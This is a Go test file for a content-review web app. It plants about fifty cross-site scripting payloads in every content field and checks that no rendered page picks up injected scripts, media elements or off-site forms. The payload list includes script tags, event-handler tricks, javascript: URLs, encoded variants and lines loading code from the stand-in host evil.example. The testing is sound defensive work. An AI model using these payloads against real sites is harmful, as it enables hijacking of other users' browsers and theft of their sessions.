package web_test

import (
	"context"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"counterpoint"
	"counterpoint/api"
)

// payloads are what somebody puts into a title, a name or a transcript to run code in a reviewer's browser.
var payloads = []string{
	`<script>alert(1)</script>`, `<ScRiPt src=//evil.example/x.js></sCrIpT>`, `</script><script>alert(1)</script>`, `<img src=x onerror=alert(1)>`,
	`<svg onload=alert(1)>`, `<svg/onload=alert(1)//`, `<body onload=alert(1)>`, `<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`,
	`<a href="javascript:alert(1)">x</a>`, `javascript:alert(1)`, `JaVaScRiPt:alert(1)`, `java	script:alert(1)`, `&#106;avascript:alert(1)`, `data:text/html,<script>alert(1)</script>`,
	`vbscript:msgbox(1)`, `" onmouseover="alert(1)`, `' onfocus='alert(1)' autofocus='`, `" autofocus onfocus=alert(1) x="`, `"><script>alert(1)</script>`,
	`'><img src=x onerror=alert(1)>`, `</title><script>alert(1)</script>`, `</textarea><script>alert(1)</script>`, `</option></select><script>alert(1)</script>`, `<!--><script>alert(1)</script>-->`,
	`--><img src=x onerror=alert(1)>`, `<![CDATA[<script>alert(1)</script>]]>`, `<math><mtext><script>alert(1)</script>`, `<details open ontoggle=alert(1)>`, `<form action="//evil.example"><button>x</button></form>`,
	`<base href="//evil.example/">`, `<meta http-equiv="refresh" content="0;url=//evil.example">`, `<link rel=stylesheet href="//evil.example/x.css">`, `<style>*{background:url(//evil.example)}</style>`, `<object data="//evil.example/x.swf">`,
	`<embed src="//evil.example/x">`, `<video><source onerror=alert(1)></video>`, `<input autofocus onfocus=alert(1)>`, `<p style="background:url(javascript:alert(1))">`, `{{.}}{{printf "%v" .}}`, `${alert(1)}`, "`-alert(1)-`",
	"\u202e<script>alert(1)</script>", "\x00<script>alert(1)</script>", "<scr\x00ipt>alert(1)</script>", `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<template><script>alert(1)</script></template>`, `%3Cscript%3Ealert(1)%3C/script%3E`,
}

// TestHostileContent puts every payload into every field that content reaches, and looks at every page.
func TestHostileContent(t *testing.T) {
	if len(payloads) < 40 {
		t.Fatalf("%d payloads, want at least 40", len(payloads))
	}
	p := newPlace(t)
	reviewer, radio, chief := p.signIn("Nadia Okello"), p.signIn("Radio Sango team"), p.signIn("Chief")
	for i, x := range payloads {
		it, flag, story, message := p.infest(x)
		pages := map[*person][]string{
			reviewer: {"/flags/" + flag, "/items/" + it, "/narratives/" + story, "/messages/" + message},
			radio:    {"/messages/new?narrative=" + url.QueryEscape(x), "/messages/" + message + "/edit"},
		}
		if i%8 == 7 || i == len(payloads)-1 { // lists show all that was put in so far
			pages[reviewer] = append(pages[reviewer], "/", "/?state=all&lang=all", "/items", "/narratives", "/messages", "/sources", "/search?level=3", "/audit")
			pages[radio] = append(pages[radio], "/today")
			pages[chief] = []string{"/accounts", "/audit"}
		}
		q := url.QueryEscape(x)
		pages[reviewer] = append(pages[reviewer], "/search?q="+q, "/?lang="+q+"&source="+q, "/?done="+q+"&last="+q, "/flags/"+flag+"?queue="+q)
		for who, paths := range pages {
			for _, path := range paths {
				a := who.get(path)
				if a.status >= 500 {
					t.Errorf("%s: status %d with %q", path, a.status, x)
				}
				secured(t, a)
				pure(t, a, x)
			}
		}
		// Typed into a form that is refused, it comes back in the field.
		a := reviewer.send("/flags/"+flag+"/confirm", url.Values{"version": {"1"}, "rabat.context.evidence": {x}, "queue": {x}}).is(http.StatusUnprocessableEntity)
		secured(t, a)
		pure(t, a, x)
	}
}

// infest puts a payload into every field of content there is.
func (p *place) infest(x string) (item, flag, story, message string) {
	p.t.Helper()
	ctx := context.Background()
	x2 := x + " " + counterpoint.ID("", x) // passages differ, so that each is a flag of its own
	p.book.AddSource(counterpoint.Source{ID: "s" + counterpoint.ID("", x)[1:], Name: x, Owner: x, Example: true})
	source := "s" + counterpoint.ID("", x)[1:]
	it := p.book.AddItem(counterpoint.ItemView{Title: x2, Source: source, Locator: x2, URL: x, Audio: x, Format: x, Revision: x, Errors: []string{x}, Lang: "eng", Owner: x, Segments: []counterpoint.SegmentView{
		{Text: x2, Speaker: x, Role: counterpoint.Role(x), Doubt: x, StartMS: ms(1), EndMS: ms(2), Level: 3, Labels: []counterpoint.Label{"hate"}, Lang: "eng"}}})
	s, err := it.Passage(0, 0)
	if err != nil {
		p.t.Fatal(err)
	}
	n := len([]rune(x2))
	found := counterpoint.Finding{Label: counterpoint.Label(x), Start: 0, End: n / 2, Reason: x, Cue: x, Entry: x, Version: x}
	s.Level, s.Stance, s.Basis, s.Lang, s.Audio = 3, counterpoint.Stance(x), counterpoint.Basis(x), "eng", x
	s.Findings, s.Against, s.Versions = []counterpoint.Finding{found}, []counterpoint.Finding{found}, map[string]string{x: x}
	f := p.book.AddFlag(s)
	nadia, radio := p.by("Nadia Okello"), p.by("Radio Sango team")
	version := p.must(p.desk.NoteFlag(ctx, api.Call{By: nadia, Version: f.Version}, f.ID, x, "")).Version
	title := x
	if len(title) > 200 {
		title = title[:200]
	}
	story = p.must(p.desk.MakeNarrative(ctx, api.Call{By: nadia}, title, x, nil)).ID
	p.must(p.desk.LinkFlag(ctx, api.Call{By: nadia, Version: version}, f.ID, story))
	message = p.must(p.desk.WriteMessage(ctx, api.Call{By: radio}, counterpoint.MessageDraft{Narrative: story, Kind: counterpoint.Correction, Audience: x, Avoid: x, Variants: []counterpoint.Variant{{Lang: "eng", Script: x}}})).ID
	p.must(p.desk.SubmitMessage(ctx, api.Call{By: radio, Version: 1}, message))
	p.must(p.desk.ApproveMessage(ctx, api.Call{By: p.by("Emre Aksoy"), Version: 2}, message))
	air := p.must(p.desk.OfferAiring(ctx, api.Call{By: radio}, message, "eng", x, p.now)).ID
	p.must(p.desk.ProveAiring(ctx, api.Call{By: radio, Version: 1}, air, counterpoint.Attested, x, p.now))
	if name := x + " " + counterpoint.ID("", x)[:9]; len([]rune(name)) < 80 {
		p.must(p.desk.MakeAccount(ctx, api.Call{By: api.Operator}, name, "", []counterpoint.PersonRole{counterpoint.Viewer}, false))
	}
	return it.ID, f.ID, story, message
}

// pure fails on elements that only content can have brought.
func pure(t *testing.T, a answer, payload string) {
	t.Helper()
	for _, n := range a.all("") {
		switch n.Data {
		case "img", "video", "source", "math", "template", "noscript", "iframe", "object", "embed", "audio", "style":
			t.Errorf("%s: %q brought an element %s", a.path, payload, n.Data)
		case "form":
			if !strings.HasPrefix(attr(n, "action"), "/") || strings.HasPrefix(attr(n, "action"), "//") {
				t.Errorf("%s: %q brought a form to %s", a.path, payload, attr(n, "action"))
			}
		}
	}
	if n := len(a.all("script")); n > 1 {
		t.Errorf("%s: %q brought a script: %d, want 1", a.path, payload, n)
	}
	if len(a.all("link")) != 2 {
		t.Errorf("%s: %q brought a link element", a.path, payload)
	}
}
